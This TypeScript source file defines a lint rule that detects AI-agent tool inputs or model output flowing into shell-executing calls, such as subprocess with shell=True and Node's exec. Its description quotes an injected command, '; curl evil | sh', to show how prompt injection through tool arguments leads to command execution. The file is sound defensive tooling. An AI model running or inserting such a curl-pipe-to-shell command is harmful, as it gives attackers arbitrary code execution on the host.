import type { Node, Tree } from 'web-tree-sitter';
import { calls, importedCallee, keywordArgument, positionalArguments, pythonImportMap, type ImportMap } from '../ast/python.js';
import { callExpressions, objectProperty, tsArguments, tsCalleeText, tsImportMap } from '../ast/typescript.js';
import { defineRule } from '../define.js';
import { HELPER_HOP_SENTENCE, nodeModuleBindings, PY_OR_TS, helperFlowReport, TOOL_DECLARATIONS_KNOWN, TOOL_FRAMEWORKS } from './support/common.js';
import type { PythonSinkSpec } from './support/helper-calls.js';
import { runSinkRule } from './support/sink-rule.js';
import type { ParsedModule } from './support/agent-modules.js';
import { describeOrigin } from './support/sinks.js';
import type { TsSinkSpec } from './support/ts-helper-calls.js';

const SUBPROCESS_SHELL_OPTIONAL = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
const ALWAYS_SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'asyncio.create_subprocess_shell', 'commands.getoutput']);
/** Quoting for the shell makes interpolation safe. */
const PY_SANITIZERS = new Set(['shlex.quote', 'pipes.quote', 'shlex.join', 'quote']);
const TS_SANITIZERS = new Set(['shellEscape', 'shellescape', 'escape', 'quote', 'shellQuote.quote', 'shq']);
const NODE_SHELL_FUNCTIONS = new Set(['exec', 'execSync']);
const NODE_OPTIONAL_SHELL = new Set(['spawn', 'spawnSync', 'execFile', 'execFileSync']);

export const shellInjectionCheck = defineRule(
  {
    id: 'security/shell-injection',
    title: 'Tool input reaches a shell command',
    description:
      'A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, ' +
      'asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context ' +
      '(`; curl evil | sh`, `$(...)`) runs as commands on the host. ' +
      HELPER_HOP_SENTENCE,
    persona: 'secops',
    category: 'security',
    severity: 'error',
    fixability: 'structural',
    tags: ['security', 'CWE-78', 'LLM05:2025', 'ASI05', 'ASI02'],
    remediation:
      'Pass an argument list without a shell: subprocess.run(["git", "log", "--", path], shell=False) or execFile("git", ["log", "--", path]); ' +
      'validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.',
    docs: 'https://docs.python.org/3/library/subprocess.html#security-considerations',
    knows: TOOL_DECLARATIONS_KNOWN,
    frameworks: TOOL_FRAMEWORKS,
    precision: 'high',
    securitySeverity: 9.8,
  },
  {
    appliesTo: (file) => PY_OR_TS(file.language),
    run: (context) =>
      runSinkRule(context, {
        python: {
          sinkText: PY_SHELL_TEXT,
          direct({ analysis, module }, report) {
            for (const call of calls(module.tree)) {
              const sink = pythonShellSink(call, analysis.imports);
              if (!sink) continue;
              const origin = analysis.origin(sink.command, { modelOutput: true, taint: { sanitizers: PY_SANITIZERS } });
              if (!origin) continue;
              report({
                start: call.startIndex,
                end: call.endIndex,
                message: `${sink.label} ${describeOrigin(origin)}; ${SHELL_RISK}`,
                fingerprintContent: `${sink.callee}|${origin.kind}|${origin.names.join(',')}`,
              });
            }
          },
          helper: PY_HELPER_SPEC,
          helperReport: (flow) => helperFlowReport(flow, { tool: `${flow.tool.name} (${flow.tool.via})`, param: `'${flow.param}'`, reaches: 'to', tail: `; ${SHELL_RISK}` }),
        },
        ts: {
          sinkText: /child_process/,
          direct({ analysis, module }, report) {
            const bindings = childProcessBindings(module);
            for (const call of callExpressions(module.tree)) {
              const sink = tsShellSink(call, bindings);
              if (!sink) continue;
              const origin = analysis.origin(sink.command, { modelOutput: true, taint: { sanitizers: TS_SANITIZERS } });
              if (!origin) continue;
              report({
                start: call.startIndex,
                end: call.endIndex,
                message: `${sink.label} ${describeOrigin(origin)}; ${sink.fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
                fingerprintContent: `${sink.fnName}|${origin.kind}|${origin.names.join(',')}`,
              });
            }
          },
          helper: TS_HELPER_SPEC,
          helperReport: (flow) =>
            helperFlowReport(flow, { tool: flow.tool.via, param: flow.param, reaches: 'to', tail: '; that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.' }),
        },
      }),
  },
);

type ChildProcessBindings = { cp: ReturnType<typeof nodeModuleBindings>; promisified: Map<string, string> };

const childProcessMemo = new WeakMap<Tree, ChildProcessBindings>();

/** How the module names child_process and its functions (memoised per tree). */
function childProcessBindings(module: ParsedModule): ChildProcessBindings {
  let bindings = childProcessMemo.get(module.tree);
  if (!bindings) {
    const cp = nodeModuleBindings(module.tree.rootNode, tsImportMap(module.tree), 'child_process');
    childProcessMemo.set(module.tree, (bindings = { cp, promisified: promisifiedExec(module.tree.rootNode, cp) }));
  }
  return bindings;
}

/** A child_process call that runs its command through a shell, and the command argument. */
function tsShellSink(call: Node, { cp, promisified }: ChildProcessBindings): { label: string; fnName: string; command: Node } | undefined {
  if (call.type !== 'call_expression') return undefined;
  const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
  if (!fnName) return undefined;
  const args = tsArguments(call);
  if (NODE_OPTIONAL_SHELL.has(fnName)) {
    const options = args.find((arg) => arg.type === 'object');
    if (objectProperty(options, 'shell')?.text !== 'true') return undefined;
  } else if (!NODE_SHELL_FUNCTIONS.has(fnName)) return undefined;
  const command = args[0];
  if (!command) return undefined;
  const label = NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`;
  return { label, fnName, command };
}

const TS_HELPER_SPEC: TsSinkSpec = {
  key: 'security/shell-injection',
  taint: { sanitizers: TS_SANITIZERS },
  // Promisified names (`run = promisify(exec)`) can be anything: every call is a candidate.
  mayHaveSink: /\(/,
  sinks: (calls, taint, module) => {
    const bindings = childProcessBindings(module);
    return calls.flatMap((call) => {
      const sink = tsShellSink(call, bindings);
      return sink && taint.isTainted(sink.command) ? [{ call, label: sink.label }] : [];
    });
  },
};

const PY_SHELL_TEXT = /\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/;
const SHELL_RISK = 'the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.';

/** A call that hands a command string to a shell, and the argument that carries the command. */
const isShellCallee = (qualified: string) => ALWAYS_SHELL.has(qualified) || SUBPROCESS_SHELL_OPTIONAL.has(qualified);

function pythonShellSink(call: Node, imports: ImportMap): { label: string; callee: string; command: Node } | undefined {
  const callee = importedCallee(call, imports, isShellCallee);
  if (!callee) return undefined;
  let label: string;
  if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
  else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, 'shell')?.text === 'True') label = `${callee}(..., shell=True)`;
  else return undefined;
  const command = keywordArgument(call, 'args') ?? keywordArgument(call, 'cmd') ?? keywordArgument(call, 'command') ?? positionalArguments(call)[0];
  return command ? { label, callee, command } : undefined;
}

/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
const PY_HELPER_SPEC: PythonSinkSpec = {
  key: 'security/shell-injection',
  taint: { sanitizers: PY_SANITIZERS },
  mayHaveSink: PY_SHELL_TEXT,
  sinks: (calls, taint, module) => {
    const imports = pythonImportMap(module.tree);
    return calls.flatMap((call) => {
      const sink = pythonShellSink(call, imports);
      return sink && taint.isTainted(sink.command) ? [{ call, label: sink.label }] : [];
    });
  },
};

/** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
function childProcessFunction(callee: string, cp: ReturnType<typeof nodeModuleBindings>, promisified: Map<string, string>): string | undefined {
  const [head, member] = callee.split('.');
  if (member !== undefined && head !== undefined && cp.namespaces.has(head) && !callee.includes('.', head.length + 1)) return member;
  return cp.named.get(callee) ?? promisified.get(callee);
}

/** `const execAsync = promisify(exec)` / `util.promisify(cp.exec)`. */
function promisifiedExec(root: Node, cp: ReturnType<typeof nodeModuleBindings>): Map<string, string> {
  const result = new Map<string, string>();
  for (const declarator of root.descendantsOfType('variable_declarator')) {
    const name = declarator.childForFieldName('name');
    const value = declarator.childForFieldName('value');
    if (name?.type !== 'identifier' || value?.type !== 'call_expression' || !/(^|\.)promisify$/.test(tsCalleeText(value))) continue;
    const inner = tsArguments(value)[0];
    const fnName = inner ? childProcessFunction(inner.text, cp, new Map()) : undefined;
    if (fnName) result.set(name.text, fnName);
  }
  return result;
}
